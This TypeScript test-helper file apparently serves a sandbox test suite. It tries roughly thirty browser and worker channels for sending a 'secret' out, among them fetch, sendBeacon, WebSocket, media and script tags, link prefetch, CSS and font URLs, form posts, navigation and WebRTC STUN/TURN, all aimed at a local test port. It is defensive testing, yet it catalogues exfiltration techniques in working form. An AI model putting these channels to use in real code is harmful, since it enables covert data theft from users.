// What a module gone bad would try to get a secret out. Both run as text inside of the browser, so they
// use nothing from outside themselves. They answer how each way ended, for whoever reads a failure. What is
// on its way then may still arrive: exfiltration.spec.ts waits for the same ways of a page that has them all.

/** Every way out of a document that a test can see arrive. */
export async function exfiltrateFromDocument(port: number): Promise<Record<string, string>> {
  const origin = `http://127.0.0.1:${port}`
  const to = (way: string) => `${origin}/${way}?secret`
  const add = (tag: string, attributes: Record<string, string>) => {
    const element = document.createElement(tag)
    for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value)
    document.body.append(element)
    return element
  }
  const link = (rel: string, more = {}) => add('link', { rel, href: to(rel), ...more })
  const peer = (server: RTCIceServer) => {
    const connection = new RTCPeerConnection({ iceServers: [server] })
    connection.createDataChannel('out')
    return connection.setLocalDescription()
  }
  const ways: Record<string, () => unknown> = {
    fetch: () => fetch(to('fetch'), { mode: 'no-cors' }),
    keepalive: () => fetch(to('keepalive'), { mode: 'no-cors', method: 'POST', keepalive: true }),
    xhr: () => {
      const request = new XMLHttpRequest()
      request.open('GET', to('xhr'))
      request.send()
    },
    beacon: () => navigator.sendBeacon(to('beacon'), 'secret'),
    websocket: () => new WebSocket(to('websocket').replace('http', 'ws')),
    eventsource: () => new EventSource(to('eventsource')),
    img: () => add('img', { src: to('img') }),
    srcset: () => add('img', { srcset: `${to('srcset')} 1x` }),
    video: () => add('video', { src: to('video') }),
    iframe: () => add('iframe', { src: to('iframe') }),
    object: () => add('object', { data: to('object') }),
    embed: () => add('embed', { src: to('embed') }),
    script: () => add('script', { src: to('script') }),
    import: () => import(to('import')),
    worker: () => new Worker(to('worker')),
    stylesheet: () => link('stylesheet'),
    icon: () => link('icon'),
    manifest: () => link('manifest'),
    prefetch: () => link('prefetch'),
    preconnect: () => link('preconnect'),
    prerender: () => link('prerender'),
    preload: () => link('preload', { as: 'image' }),
    modulepreload: () => link('modulepreload'),
    style: () => {
      add('div', { id: 'styled' })
      const sheet = new CSSStyleSheet()
      sheet.replaceSync(`#styled { display: block; height: 9px; background: url(${to('style')}) }`)
      document.adoptedStyleSheets.push(sheet)
    },
    font: () => new FontFace('out', `url(${to('font')})`).load(),
    form: () => (add('form', { action: to('form'), method: 'post' }) as HTMLFormElement).submit(),
    ping: () => add('a', { href: '#here', ping: to('ping') }).click(),
    top: () => {
      if (window.top !== window) window.top!.location.href = to('top')
    },
    popup: () => void window.open(to('popup')),
    stun: () => peer({ urls: `stun:127.0.0.1:${port}` }),
    turn: () =>
      peer({ urls: `turn:127.0.0.1:${port}?transport=tcp`, username: 'a', credential: 'secret' }),
  }
  const ends: Record<string, string> = {}
  const attempt = async (name: string, way: () => unknown) => {
    try {
      const end = await Promise.race([way(), new Promise((go) => setTimeout(go, 1_500, 'open'))])
      ends[name] = typeof end === 'string' ? end : 'done'
    } catch (error) {
      ends[name] = String(error)
    }
  }
  await Promise.all(Object.entries(ways).map(([name, way]) => attempt(name, way)))
  return ends
}

/** A frame without an address has a window of its own, in which nothing was taken away. */
export async function exfiltrateFromInnerFrame(port: number): Promise<void> {
  const frame = document.createElement('iframe')
  document.body.append(frame)
  const inner = frame.contentWindow as unknown as typeof window
  void inner.fetch(`http://127.0.0.1:${port}/inner?secret`, { mode: 'no-cors' }).catch(() => {})
  const connection = new inner.RTCPeerConnection({
    iceServers: [{ urls: `stun:127.0.0.1:${port}` }],
  })
  connection.createDataChannel('out')
  await connection.setLocalDescription()
}

/** The last way: the document itself leaves, with the secret in the address. */
export function leave(port: number): void {
  window.location.href = `http://127.0.0.1:${port}/leave?secret`
}

/** The same of a worker, which has fewer ways. */
export async function exfiltrateFromWorker(port: number): Promise<Record<string, string>> {
  const to = (way: string) => `http://127.0.0.1:${port}/${way}?secret`
  const global = self as unknown as Record<string, new (address: string) => unknown> & {
    importScripts(url: string): void
  }
  const ways: Record<string, () => unknown> = {
    fetch: () => fetch(to('fetch'), { mode: 'no-cors' }),
    keepalive: () => fetch(to('keepalive'), { mode: 'no-cors', method: 'POST', keepalive: true }),
    xhr: () => {
      const request = new XMLHttpRequest()
      request.open('GET', to('xhr'))
      request.send()
    },
    websocket: () => new WebSocket(to('websocket').replace('http', 'ws')),
    eventsource: () => new EventSource(to('eventsource')),
    import: () => import(to('import')),
    importScripts: () => global.importScripts(to('importScripts')),
    worker: () => new Worker(to('worker')),
    webtransport: () => new global.WebTransport!(to('webtransport').replace('http', 'https')),
    font: () => new FontFace('out', `url(${to('font')})`).load(),
    peer: () => new global.RTCPeerConnection!(''),
    api: () => fetch('/auth/v1/login'), // not even our own servers
  }
  const ends: Record<string, string> = {}
  const attempt = async (name: string, way: () => unknown) => {
    try {
      const end = await Promise.race([way(), new Promise((go) => setTimeout(go, 1_500, 'open'))])
      ends[name] = typeof end === 'string' ? end : 'done'
    } catch (error) {
      ends[name] = String(error)
    }
  }
  await Promise.all(Object.entries(ways).map(([name, way]) => attempt(name, way)))
  return ends
}
